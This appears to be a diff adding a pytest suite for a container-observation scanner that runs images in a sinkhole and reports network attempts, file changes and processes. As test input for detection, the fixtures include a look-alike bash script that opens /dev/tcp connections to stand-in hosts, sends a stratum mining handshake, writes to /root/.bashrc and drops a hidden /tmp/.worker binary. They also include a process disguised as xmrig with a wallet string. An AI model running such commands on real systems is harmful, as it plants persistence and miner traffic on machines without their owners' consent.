@@ -1,0 +1,343 @@
+"""An observation on a real engine, from the pause to the report; its refusals; and its end, by whatever death."""
+
+import json
+import os
+import platform
+import random
+import shutil
+import signal
+import subprocess
+import sys
+import time
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from types import SimpleNamespace
+from typing import Any
+
+import pytest
+
+from scanner.egressing import EgressOptions
+from scanner.errors import SourceError, TargetError, UsageError
+from scanner.model import Level, Report
+from scanner.model.egress import Destination
+from scanner.model.run import ChangeKind, How
+from scanner.runtime.observe import ObserveOptions, Watching, check_engine, check_machine, observe
+from scanner.runtime.sinkhole.guest import Limits
+from scanner.runtime.sinkhole.sweep import sweep
+from tests import host_image
+from tests.engine_fixture import Engine, engine, missing
+from tests.runtime.sinkhole.guests import Ground
+
+__all__ = ["engine"]
+
+KILLS = int(os.environ.get("SANDSCAN_TEST_KILLS", "6"))
+"""How many observers are killed; by hand 50."""
+PROGRAMS = ("bash", "sleep", "cat", "cp", "id", "sh")
+LOOK_ALIKE = r"""
+exec 3<>/dev/tcp/198.51.100.7/22 3>&-
+exec 4<>/dev/tcp/pool.example.org/3333
+echo '{"id":1,"method":"mining.subscribe","params":["look-alike/1"]}' >&4
+read -r -t 10 -u 4 && answered=answered
+echo echo started >>/root/.bashrc
+echo in the volume >/data/kept
+cp /bin/cat /tmp/.worker
+echo $answered
+"""
+
+
+@pytest.fixture(scope="module")
+def ground(engine: Engine) -> Iterator[Ground]:
+    """An engine with a small image: bash, which connects by itself."""
+    if os.geteuid() != 0:
+        missing("root, to observe a guest")
+    name = f"sandscan-observed-{os.getpid()}"
+    data = host_image.tree(PROGRAMS, python=False)
+    engine.client.api.import_image_from_data(data, name, "1", changes=["VOLUME /data", 'CMD ["id", "-u"]'])
+    with pytest.MonkeyPatch.context() as patch:
+        patch.setenv("DOCKER_HOST", engine.host)
+        yield Ground(engine, f"{name}:1")
+    engine.client.images.remove(f"{name}:1", force=True)
+
+
+def options(seconds: float = 30, **more: Any) -> ObserveOptions:
+    return ObserveOptions(limits=Limits(seconds=seconds), **more)
+
+
+# ---- one run
+
+
+@pytest.fixture(scope="module")
+def report(ground: Ground, tmp_path_factory: pytest.TempPathFactory) -> Report:
+    """A look-alike's run that has to be stopped."""
+    folder = tmp_path_factory.mktemp("pcap")
+    command = ["bash", "-c", LOOK_ALIKE + "read -u 4"]
+    return observe(ground.image, command, options(4, episode="e-1", pcap=folder / "run.pcap"))
+
+
+@pytest.mark.engine
+def test_the_run_is_told_whole(report: Report, ground: Ground) -> None:
+    run = report.run
+    assert run is not None
+    assert (run.how, run.subject, run.episode) == (How.OBSERVE, ground.image, "e-1")
+    assert (run.stopped, run.exit_code, run.output) == ("time limit of 4 s", None, b"answered\n")
+    assert 3.5 < run.ended - run.started < 10
+    assert run.command[:2] == ("bash", "-c")
+    assert report.complete, [n.message for n in report.notifications]
+    assert ground.left() == []
+
+
+@pytest.mark.engine
+def test_what_it_tried_is_told_with_name_port_process_and_first_bytes(report: Report) -> None:
+    assert report.run is not None
+    tried = {(a.name or a.target.address, a.target.port): a for a in report.run.attempts if a.protocol == "tcp"}
+    assert set(tried) == {("198.51.100.7", 22), ("pool.example.org", 3333)}
+    pool = tried["pool.example.org", 3333]
+    assert (pool.service, pool.first[:16]) == ("stratum", b'{"id":1,"method"')
+    process = report.run.process(pool.pid, pool.time)
+    assert process is not None
+    assert process.command[0] == "bash"
+    assert report.run.started <= pool.time <= report.run.ended
+    assert {(q.name, q.type) for q in report.run.queries} >= {("pool.example.org", "A")}
+    [finding] = report.findings_of("observed/pool")
+    assert "pool.example.org:3333" in finding.message
+
+
+@pytest.mark.engine
+def test_what_it_changed_is_told_in_the_image_and_in_volumes(report: Report) -> None:
+    assert report.run is not None
+    changes = {c.path: c for c in report.run.changes}
+    assert set(changes) == {b"root/.bashrc", b"data/kept", b"tmp/.worker"}
+    assert {c.change for c in changes.values()} == {ChangeKind.ADDED}
+    assert changes[b"data/kept"].place.startswith("volume ")
+    assert changes[b"tmp/.worker"].executable
+    assert report.findings_of("drift/persistence")
+
+
+@pytest.mark.engine
+def test_what_ran_is_told_and_what_still_runs_was_looked_at(report: Report) -> None:
+    assert report.run is not None
+    shell, copy = report.run.processes
+    assert copy.command == ("cp", "/bin/cat", "/tmp/.worker")
+    assert (copy.parent, copy.exit_code) == (shell.pid, 0)
+    assert copy.ended is not None
+    assert shell.ended is None
+    assert shell.digest is not None  # its program was read
+    assert shell.user == "root"
+    [connection] = [s for s in report.run.sockets if s.remote is not None]
+    assert connection.pids == (shell.pid,)
+    assert report.run.namespace is not None
+    assert any(i.startswith("eth0 172.17.0.2") for i in report.run.namespace.interfaces)
+
+
+@pytest.mark.engine
+def test_every_packet_is_kept_for_wireshark(ground: Ground, tmp_path: Path) -> None:
+    file = tmp_path / "run.pcap"
+    code = "echo -n canary-in-a-packet >/dev/udp/203.0.113.9/9"
+    found = observe(ground.image, ["bash", "-c", code], options(pcap=file))
+    assert found.run is not None
+    assert (found.run.exit_code, found.run.stopped) == (0, "")
+    assert b"canary-in-a-packet" in file.read_bytes()
+
+
+@pytest.mark.engine
+def test_a_program_that_has_ended_is_judged_by_its_command_line(ground: Ground) -> None:
+    """A shell under another name, with words that it takes for its own and never acts upon."""
+    wallet = "4" + "4AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A"
+    code = f"(exec -a xmrig bash -c 'exit 0' -o stratum+tcp://pool.example.org:3333 -u {wallet} -k --coin monero); :"
+    found = observe(ground.image, ["bash", "-c", code], options())
+    assert found.run is not None
+    assert [p.command[0] for p in found.run.processes] == ["bash", "xmrig"]
+    assert found.run.stopped == ""
+    print([(f.rule_id, f.message) for f in found.findings])
+    assert found.findings_of("live/miner-process")
+
+
+@pytest.mark.engine
+def test_a_launch_is_run_as_it_says_and_joined_with_what_it_lets_through(ground: Ground, tmp_path: Path) -> None:
+    file = tmp_path / "compose.yaml"
+    file.write_text(
+        "services:\n"
+        "  agent:\n"
+        f"    image: {ground.image}\n"
+        "    network_mode: none\n"
+        "    user: '7'\n"
+        "    environment: {KEY: value}\n"
+        "    volumes: ['./work:/host:ro']\n"
+        "    command: [bash, -c, 'id -u; echo $$KEY /host/*; exec 3<>/dev/tcp/198.51.100.7/80']\n"
+        f"  other:\n    image: {ground.image}\n"
+    )
+    given = options(launches=(str(file),), egress=EgressOptions(), sandbox="agent")
+    found = observe(None, (), given)
+    assert found.run is not None
+    assert found.run.output == b"7\nvalue /host/*\n"
+    withheld = {w.what for w in found.run.withheld}
+    assert {"capability NET_RAW", f"host path {tmp_path}/work at /host"} <= withheld
+    assert found.egress is not None
+    [agent] = [s for s in found.egress.sandboxes if s.name == "agent"]
+    [tried] = agent.answer(Destination.INTERNET).tried or ()
+    assert (tried.target, tried.outcome) == ("198.51.100.7:80", "closed")
+
+
+@pytest.mark.engine
+def test_a_sinkhole_that_falls_ends_the_run_and_is_said(ground: Ground) -> None:
+    def kill(now: Watching) -> None:
+        for status in Path("/proc").glob("[0-9]*/status") if now.left is not None else ():
+            try:
+                if (
+                    f"PPid:\t{os.getpid()}\n" in status.read_text()
+                    and b"sinkhole.child" in (status.parent / "cmdline").read_bytes()
+                ):
+                    os.kill(int(status.parent.name), signal.SIGKILL)
+            except OSError:
+                continue
+
+    found = observe(ground.image, ["sleep", "30"], options(), watch=kill)
+    assert found.run is not None
+    assert found.run.stopped == "the sinkhole fell"
+    assert [n.level for n in found.notifications if "sinkhole fell" in n.message] == [Level.ERROR]
+    assert not found.complete
+    assert ground.left() == []
+
+
+# ---- refusals, before anything is started
+
+
+@pytest.mark.engine
+@pytest.mark.parametrize(
+    ("target", "given", "error", "words"),
+    [
+        (None, {}, UsageError, "name an image"),
+        ("archive:app.tar", {}, UsageError, "only an image of the local engine can be run"),
+        ("sandscan-none:1", {}, TargetError, "has no image sandscan-none:1; fetch it with `docker pull"),
+    ],
+)
+def test_what_cannot_be_run_is_refused(
+    ground: Ground, target: str | None, given: dict[str, Any], error: type[Exception], words: str
+) -> None:
+    with pytest.raises(error, match=words):
+        observe(target, (), options(**given))
+    assert ground.left() == []
+
+
+@pytest.mark.engine
+def test_a_launch_of_several_needs_a_name(ground: Ground, tmp_path: Path) -> None:
+    file = tmp_path / "compose.yaml"
+    file.write_text(f"services:\n  a: {{image: {ground.image}}}\n  b: {{image: {ground.image}}}\n")
+    with pytest.raises(UsageError, match="starts 2 sandboxes; say which to observe with --sandbox: a, b"):
+        observe(ground.image, (), options(launches=(str(file),)))
+    with pytest.raises(UsageError, match="starts no sandbox c; there are a, b"):
+        observe(None, (), options(launches=(str(file),), sandbox="c"))
+
+
+def test_who_is_not_root_is_told_what_to_do() -> None:
+    if os.geteuid() != 0:
+        with pytest.raises(SourceError, match="needs root"):
+            check_machine()
+        return
+    child = os.fork()
+    if child == 0:
+        os.setuid(65534)
+        try:
+            check_machine()
+        except SourceError as e:
+            os._exit(0 if "run it with sudo" in str(e) else 2)
+        os._exit(1)
+    assert os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 0
+
+
+INFO = {
+    "OSType": "linux",
+    "KernelVersion": platform.release(),
+    "MemoryLimit": True,
+    "PidsLimit": True,
+    "CpuCfsQuota": True,
+}
+
+
+@pytest.mark.parametrize(
+    ("endpoint", "changed", "words"),
+    [
+        ("tcp://192.0.2.1:2375", {}, "not on this machine"),
+        ("ssh://box", {}, "not on this machine"),
+        ("unix:///s", {"KernelVersion": "6.6.0-linuxkit"}, "another kernel .6.6.0-linuxkit"),
+        ("unix:///s", {"OSType": "windows"}, "another kernel"),
+        ("unix:///s", {"SecurityOptions": ["name=seccomp", "name=rootless"]}, "is rootless"),
+        ("unix:///s", {"PidsLimit": False, "MemoryLimit": False}, "cannot limit memory or the number of processes"),
+    ],
+)
+def test_an_engine_that_cannot_hold_a_guest_is_refused(endpoint: str, changed: dict[str, Any], words: str) -> None:
+    client: Any = SimpleNamespace(api=SimpleNamespace(info=lambda: {**INFO, **changed}))
+    with pytest.raises(SourceError, match=words):
+        check_engine(client, endpoint)
+
+
+@pytest.mark.engine
+def test_this_engine_is_not_refused(ground: Ground) -> None:
+    check_machine()
+    check_engine(ground.client, ground.engine.host)
+
+
+# ---- its end
+
+
+def machine() -> dict[str, Any]:
+    """What an observation could leave on the machine: links, firewall, named namespaces, programs in the kernel."""
+
+    def told(*words: str) -> str:
+        found = shutil.which(words[0], path=host_image.SEARCHED)
+        return subprocess.run([found, *words[1:]], capture_output=True, text=True, check=False).stdout if found else ""
+
+    links = told("ip", "-json", "link")
+    return {
+        "links": sorted(link["ifname"] for link in json.loads(links or "[]")),
+        "rules": [one for one in told("iptables-save").splitlines() if not one.startswith("#")],
+        "tables": told("nft", "list", "ruleset"),
+        "names": sorted(p.name for p in Path("/run/netns").glob("*")),
+    }
+
+
+@pytest.mark.engine
+def test_killed_at_any_moment_nothing_is_left_after_the_next_start(ground: Ground, tmp_path: Path) -> None:
+    """The guest dies with its observer within seconds; a start later there is no container, volume, link, rule or name."""
+    before = machine()
+    chance = random.Random(6)
+    for _ in range(KILLS):
+        with subprocess.Popen(
+            [sys.executable, "-m", "scanner.cli", "observe", ground.image, "--seconds", "2", "-q", "--", "sleep", "60"],
+            env={**os.environ, "SANDSCAN_CACHE_DIR": str(tmp_path)},
+            stdout=subprocess.DEVNULL,
+        ) as observer:
+            time.sleep(chance.uniform(0.2, 4))
+            observer.send_signal(signal.SIGKILL)
+        _until(lambda: not _running(ground), 5)
+    sweep(ground.client, ground.engine.host)
+    _until(lambda: ground.left() == [], 5)
+    assert machine() == before
+
+
+@pytest.mark.engine
+@pytest.mark.parametrize(("number", "code"), [(signal.SIGINT, 130), (signal.SIGTERM, 143)])
+def test_a_signal_takes_everything_away_at_once(ground: Ground, tmp_path: Path, number: int, code: int) -> None:
+    with subprocess.Popen(
+        [sys.executable, "-m", "scanner.cli", "observe", ground.image, "-q", "--", "sleep", "60"],
+        env={**os.environ, "SANDSCAN_CACHE_DIR": str(tmp_path)},
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    ) as observer:
+        _until(lambda: any(name.endswith("-guest") for name in _running(ground)), 20)
+        time.sleep(0.3)
+        observer.send_signal(number)
+        assert observer.wait(20) == code
+    assert ground.left() == []
+
+
+def _running(ground: Ground) -> list[str]:
+    found = ground.client.containers.list(filters={"label": "sandscan.observe"}, ignore_removed=True)
+    return [c.name for c in found if c.status == "running"]
+
+
+def _until(true: Callable[[], bool], seconds: float) -> None:
+    end = time.monotonic() + seconds
+    while not true():
+        assert time.monotonic() < end
+        time.sleep(0.05)
